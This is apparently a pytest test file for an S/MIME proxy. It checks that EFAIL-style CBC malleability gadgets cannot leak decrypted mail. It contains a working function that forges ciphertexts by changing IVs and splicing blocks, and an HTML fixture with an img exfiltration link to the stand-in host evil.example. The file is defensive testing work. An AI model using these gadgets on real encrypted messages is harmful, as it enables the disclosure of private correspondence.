"""No CBC gadgets (security issue, item 3; DESIGN decision 14): content decrypted without
authentication is shown whole only under a valid signature. The gadgets here are real: the
IV or block pairs of a CBC ciphertext are changed so that chosen plaintext blocks appear
(EFAIL's `<img src="http://...` exfiltration channel), on messages encrypted by the proxy's
own recipes and by `openssl cms`."""

from __future__ import annotations

import base64
from pathlib import Path

import pytest
from asn1crypto import cms

from smime_proxy.crypto.keyagent import InProcessKeyAgent
from smime_proxy.display import open_message
from smime_proxy.mime.entity import parse_entity
from smime_proxy.smime import Recipient, decrypt_message, encrypt_message, sign_message
from support.cmsutil import openssl, pkcs7_mime
from support.pki import NOW, Identity

SECRET = b"The launch code is 0000-SECRET-4242."
HTML = (b'<html><body><p>see below</p><img src="http://evil.example/?x=">'
        b"</body></html>\r\n")
MESSAGE = (b"From: alice@example.test\r\nTo: bob@example.test\r\nSubject: s\r\n"
           b"MIME-Version: 1.0\r\nContent-Type: multipart/alternative; boundary=\"b\"\r\n\r\n"
           b"--b\r\nContent-Type: text/plain; charset=us-ascii\r\n\r\n" + SECRET + b"\r\n"
           b"--b\r\nContent-Type: text/html; charset=us-ascii\r\n\r\n" + HTML + b"--b--\r\n")
GADGET = b"<img src='//ev1/"  # one chosen 16-byte block, not in MESSAGE


def agent(identity: Identity) -> InProcessKeyAgent:
    return InProcessKeyAgent(identity.key, identity.cert, tuple(identity.chain))


def _der_of(message: bytes) -> bytes:
    return base64.b64decode(parse_entity(message).body)


def _with_der(message: bytes, der: bytes) -> bytes:
    entity = parse_entity(message)
    b64 = base64.encodebytes(der).replace(b"\n", b"\r\n")
    return message[: entity.body_start] + b64


def _malleate(message: bytes, known: bytes, *, splice: bool, middle: bool = False) -> bytes:
    """A CBC gadget on the message's EnvelopedData, knowing its first 16 plaintext bytes:
    the IV is changed so that the first block decrypts to GADGET, or (`splice`) the block pair
    (IV', C1) is inserted before the last two blocks (or in the `middle`), planting GADGET
    there after one garbage block."""
    info = cms.ContentInfo.load(_der_of(message))
    eci = info["content"]["encrypted_content_info"]
    algorithm = eci["content_encryption_algorithm"]
    iv = algorithm["parameters"].native
    ciphertext = eci["encrypted_content"].native
    chosen_iv = bytes(a ^ b ^ c for a, b, c in zip(iv, known[:16], GADGET, strict=True))
    if splice:
        first = ciphertext[:16]
        at = (len(ciphertext) // 32) * 16 if middle else len(ciphertext) - 32
        ciphertext = ciphertext[:at] + chosen_iv + first + ciphertext[at:]
    else:
        algorithm["parameters"] = cms.OctetString(chosen_iv)
    eci["encrypted_content"] = ciphertext
    return _with_der(message, info.dump(force=True))


def _proxy_cbc(message: bytes, bob: Identity) -> bytes:
    encrypted = encrypt_message(message, [Recipient(bob.cert, supports_gcm=False)])
    assert b"enveloped-data" in encrypted
    return encrypted


KNOWN = b"Content-Type: mu"  # how the encrypted entity starts: an attacker knows it



@pytest.mark.parametrize("splice", [False, True])
def test_a_gadget_in_the_proxys_own_cbc_output_is_never_released(
        root: Identity, bob: Identity, splice: bool) -> None:
    encrypted = _proxy_cbc(MESSAGE, bob)
    forged = _malleate(encrypted, KNOWN, splice=splice)
    # the gadget works: the plaintext now holds the chosen block
    assert GADGET in decrypt_message(forged, agent(bob)).content
    opened = open_message(forged, agent(bob), [root.cert], now=NOW)
    assert "content=withheld" in opened.status
    assert GADGET not in opened.content and SECRET not in opened.content
    text = open_message(forged, agent(bob), [root.cert], now=NOW, unauthenticated="text")
    assert "content=text-only" in text.status
    shown = parse_entity(text.content)
    assert shown.content_type()[0] == "text/plain"
    assert b"text/html" not in text.content and b"<img" not in text.content


def test_unsigned_cbc_is_withheld_or_text_only(root: Identity, bob: Identity) -> None:
    encrypted = _proxy_cbc(MESSAGE, bob)
    opened = open_message(encrypted, agent(bob), [root.cert], now=NOW)
    assert opened.status == "encrypted=yes; cipher=aes-256-cbc; signature=none; content=withheld"
    assert opened.content.split(b"\r\n", 1)[1] == encrypted  # the stored S/MIME message
    text = open_message(encrypted, agent(bob), [root.cert], now=NOW, unauthenticated="text")
    assert text.status.endswith("signature=none; content=text-only")
    body = base64.b64decode(parse_entity(text.content.split(b"\r\n", 1)[1]).body)
    assert SECRET in body and b"<img" not in body
    assert b"Subject: s\r\n" in text.content


def test_validly_signed_cbc_is_shown_whole_and_a_gadget_breaks_it(
        root: Identity, alice: Identity, bob: Identity) -> None:
    signed = sign_message(MESSAGE, agent(alice), now=NOW)
    encrypted = _proxy_cbc(signed, bob)
    opened = open_message(encrypted, agent(bob), [root.cert], now=NOW)
    assert "signature=valid" in opened.status and "content=" not in opened.status
    assert SECRET in opened.content
    for forged in (_malleate(encrypted, KNOWN, splice=False),  # the signed structure
                   _malleate(encrypted, KNOWN, splice=True, middle=True)):  # the signed part
        assert GADGET in decrypt_message(forged, agent(bob)).content
        opened = open_message(forged, agent(bob), [root.cert], now=NOW)
        assert "signature=valid" not in opened.status and "content=withheld" in opened.status
        assert SECRET not in opened.content and GADGET not in opened.content


def test_a_gadget_outside_the_signed_parts_is_not_shown(root: Identity, alice: Identity,
                                                         bob: Identity) -> None:
    """Spliced after the signature part, the gadget lands in the multipart/signed epilogue,
    which no signature covers: the signature stays valid, and the shown message carries
    no preamble or epilogue (only the verified parts)."""
    signed = sign_message(MESSAGE, agent(alice), now=NOW)
    encrypted = _proxy_cbc(signed, bob)
    forged = _malleate(encrypted, KNOWN, splice=True)
    assert GADGET in decrypt_message(forged, agent(bob)).content
    opened = open_message(forged, agent(bob), [root.cert], now=NOW)
    assert "signature=valid" in opened.status
    assert GADGET not in opened.content and SECRET in opened.content


def test_authenticated_encryption_is_shown_whole(root: Identity, bob: Identity) -> None:
    encrypted = encrypt_message(MESSAGE, [Recipient(bob.cert, supports_gcm=True)])
    opened = open_message(encrypted, agent(bob), [root.cert], now=NOW)
    assert opened.status == "encrypted=yes; cipher=aes-256-gcm; signature=none"
    assert SECRET in opened.content and b"<img" in opened.content


@pytest.mark.interop
def test_a_gadget_in_openssl_cms_output_is_never_released(root: Identity, bob: Identity,
                                                          tmp_path: Path) -> None:
    (tmp_path / "bob.pem").write_bytes(bob.cert_pem())
    entity = MESSAGE.split(b"MIME-Version: 1.0\r\n", 1)[1]  # what a client encrypts
    (tmp_path / "entity").write_bytes(entity)
    der = openssl("cms", "-encrypt", "-aes256", "-binary", "-outform", "DER",
                  "-in", str(tmp_path / "entity"), str(tmp_path / "bob.pem"))
    encrypted = pkcs7_mime(der, "enveloped-data", sender="alice@example.test",
                           to="bob@example.test")
    plain = open_message(encrypted, agent(bob), [root.cert], now=NOW)
    assert "content=withheld" in plain.status and SECRET not in plain.content
    for splice in (False, True):
        forged = _malleate(encrypted, entity[:16], splice=splice, middle=True)
        assert GADGET in decrypt_message(forged, agent(bob)).content
        opened = open_message(forged, agent(bob), [root.cert], now=NOW)
        assert "content=withheld" in opened.status and GADGET not in opened.content
